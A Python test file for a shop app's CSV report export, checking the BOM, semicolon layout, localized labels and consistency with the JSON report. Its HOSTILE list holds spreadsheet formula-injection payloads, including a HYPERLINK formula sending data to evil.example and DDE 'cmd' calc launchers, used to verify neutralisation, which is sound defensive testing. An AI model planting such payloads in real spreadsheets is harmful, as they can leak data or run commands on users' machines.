"""The CSV export: BOM, `;` columns, a fixed English header, one row per figure with its
label in the chosen language, and nothing a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from smallshop.i18n import get_translator
from smallshop.reports import render_report
from smallshop.reports.model import KEY_FIGURES

from .sample import KNOWN, PROFILE, empty_month, known_month


def _rows(lang: str, summary=None, profile=PROFILE, notes="", prepared_by="Гүлзат",
          with_names: bool = False) -> tuple[bytes, list[list[str]]]:
    from smallshop.reports import ReportExtras

    data = render_report(summary or known_month(), profile, fmt="csv", lang=lang,
                         generated_on=date(2026, 12, 1), prepared_by=prepared_by, notes=notes,
                         extras=ReportExtras(with_names=with_names))
    text = data.decode("utf-8")
    return data, list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("lang", ["ky", "ru", "en"])
def test_bom_header_and_four_columns(lang):
    data, rows = _rows(lang)
    assert data.startswith(b"\xef\xbb\xbf")
    t = get_translator(lang)
    # the machine columns never change with the language: the header is always English
    assert data[3:].split(b"\r\n", 1)[0] == b"section;key;label;value"
    assert rows[0] == ["section", "key", "label", "value"]
    assert all(len(row) == 4 for row in rows)
    by_key = {(r[0], r[1]): r for r in rows[1:]}
    assert len(by_key) == len(rows) - 1  # (section, key) is unique
    for key in KEY_FIGURES:
        assert ("key_figures", key) in by_key
        assert by_key[("key_figures", key)][2] == t(f"report.figure.{key}")


def test_values_are_exact_and_language_free():
    _, ky = _rows("ky")
    _, en = _rows("en")
    # the fingerprint names the JSON made with the same language (whose `language` differs)
    assert [(r[0], r[1], r[3]) for r in ky[1:] if r[1] != "fingerprint"] == [
        (r[0], r[1], r[3]) for r in en[1:] if r[1] != "fingerprint"]
    values = {(r[0], r[1]): r[3] for r in en[1:]}
    for key, amount in KNOWN.items():
        assert values[("key_figures", key)] == amount.to_decimal_str()
    assert values[("header", "period")] == "2026-11"
    assert values[("header", "currency")] == "KGS"
    assert values[("header", "as_of")] == "2026-11-30"


def test_debts_and_receivables_have_their_own_rows():
    _, rows = _rows("ky", with_names=True)  # the owner's own copy
    summary = known_month()
    values = {(r[0], r[1]): r for r in rows[1:]}
    for i, debt in enumerate(summary.current.debts, start=1):
        assert values[("debts", f"debt.{i}.lender")][3] == debt.lender
        assert values[("debts", f"debt.{i}.closing_balance")][3] == debt.closing_balance.to_decimal_str()
        assert debt.lender in values[("debts", f"debt.{i}.closing_balance")][2]
        assert values[("debts", f"debt.{i}.next_due_date")][3] == debt.next_due_date.isoformat()
    for i, line in enumerate(summary.current.receivable_lines, start=1):
        assert values[("receivables", f"receivable.{i}.customer")][3] == line.customer_name
        assert values[("receivables", f"receivable.{i}.amount")][3] == line.amount.to_decimal_str()
        assert values[("receivables", f"receivable.{i}.since")][3] == line.since.isoformat()
    assert values[("receivables", "receivables")][3] == "4850.50"
    assert values[("debts", "total.closing_balance")][3] == "90800.00"


def test_empty_month_csv_parses_with_no_debt_rows():
    _, rows = _rows("ru", empty_month())
    sections = {r[0] for r in rows[1:]}
    assert "key_figures" in sections
    assert not [r for r in rows if r[1].startswith("debt.") or r[1].startswith("receivable.")]
    assert {r[1]: r[3] for r in rows[1:] if r[0] == "debts"}["debt_service_ratio"] == ""


def test_excel_in_russian_settings_gets_semicolons_and_no_sep_line():
    """Russian-locale Excel splits columns at ';' and reads the BOM only when it is the
    very first thing in the file (a `sep=` line would hide it): the file is made for that."""
    data, rows = _rows("ru")
    first_line = data.split(b"\r\n", 1)[0]
    assert first_line == b"\xef\xbb\xbfsection;key;label;value"
    assert not data[3:].lower().startswith(b"sep=")
    assert all(len(row) == 4 for row in rows)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+996 555 12 34 56",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=cmd|"/c calc"!A1; "quoted", with, commas',
    "=1+1\n=2+2",  # a second line that starts a formula too
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_text_in_every_text_field_never_becomes_a_formula(hostile):
    """Text any family member can type (customer names, lenders, profile fields, notes)
    goes into every text cell; read back, each cell is data, whole and unchanged
    after the neutralising apostrophe."""
    from dataclasses import replace

    from smallshop.domain.summary_types import AdvanceLine, ReceivableLine

    summary = known_month()
    now = summary.current
    now = replace(
        now,
        receivable_lines=tuple(replace(line, customer_name=hostile) for line in now.receivable_lines),
        advance_lines=(AdvanceLine("c-x", hostile, now.advances),),
        debts=tuple(replace(debt, lender=hostile) for debt in now.debts),
    )
    profile = replace(PROFILE, business_name=hostile, owner_name=hostile, location=hostile, case_id=hostile,
                      caseworker_name=hostile)
    _, rows = _rows("ru", replace(summary, current=now), profile, notes=hostile, prepared_by=hostile,
                    with_names=True)
    cells = [cell for row in rows for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the only cells left starting with '-' are exact numbers (a loss), never text
    assert all(c.lstrip("-").replace(".", "", 1).isdigit() for c in dangerous), dangerous
    fields = {(r[0], r[1]): r[3] for r in rows[1:]}
    expected = "'" + hostile.replace("\r", "\n") if hostile[:1] != "\r" else "'" + hostile
    for key in (("header", "business_name"), ("header", "owner_name"), ("header", "prepared_by"), ("header", "location"),
                ("header", "case_id"), ("header", "caseworker_name"), ("notes", "notes"),
                ("receivables", "receivable.1.customer"), ("advances", "advance.1.customer"),
                ("debts", "debt.1.lender")):
        assert fields[key] in ("'" + hostile, expected), key  # kept whole, just neutralised
    labels = [r[2] for r in rows[1:] if hostile in r[2]]
    assert labels and all(label[:1] not in ("=", "+", "-", "@", "\t", "\r") or label.startswith("'")
                          for label in labels)


def test_numbers_stay_numbers():
    from smallshop.reports.csv_export import neutralise

    assert [neutralise(v) for v in ("-6500.00", "0.2500", "12", "-3")] == ["-6500.00", "0.2500", "12", "-3"]
    assert [neutralise(v) for v in ("-", "-1+1", "+5", "=A1", "@x", "\tx", "\rx")] == [
        "'-", "'-1+1", "'+5", "'=A1", "'@x", "'\tx", "'\rx"]
    # a trailing newline does not make a number ($ matched before it), a leading one is guarded
    assert [neutralise(v) for v in ("-1\n", "-1\n=A1", "\n=A1", "\n-1")] == [
        "'-1\n", "'-1\n=A1", "'\n=A1", "'\n-1"]


def test_the_csv_names_every_figure_as_the_json_does():
    """A script reading both files finds the same key with the same value (issue 11
    review): breakdown keys are the JSON's, their closing lines its top-level figures,
    `refunds` is money given back in both, and `in_progress` is there too."""
    import json
    from dataclasses import replace

    from smallshop.domain.money import Money

    summary = known_month()
    now = summary.current  # 500 given back this month
    summary = replace(summary, current=replace(now, refunds=Money.som(500), income=now.income - Money.som(500)))
    doc = json.loads(render_report(summary, PROFILE, fmt="json", lang="en", generated_on=date(2026, 12, 1),
                                   prepared_by="Гүлзат", notes=""))
    _, rows = _rows("en", summary)
    for section in ("income_by_category", "income_by_method", "expenses_by_category", "sales", "receivables",
                    "advances"):
        for _, key, _, value in (r for r in rows[1:] if r[0] == section and "." not in r[1]):
            expected = doc[section][key] if isinstance(doc.get(section), dict) and key in doc[section] else doc[key]
            assert value == expected, (section, key)
    values = {(r[0], r[1]): r[3] for r in rows[1:]}
    assert values[("header", "in_progress")] == json.dumps(doc["in_progress"])
    assert values[("income_by_method", "income_received")] == doc["income_received"]
    assert float(doc["refunds"]) > 0 and values[("income_by_category", "refunds")] == doc["refunds"]
    assert not any(key == "total" for _, key, _, _ in rows[1:])
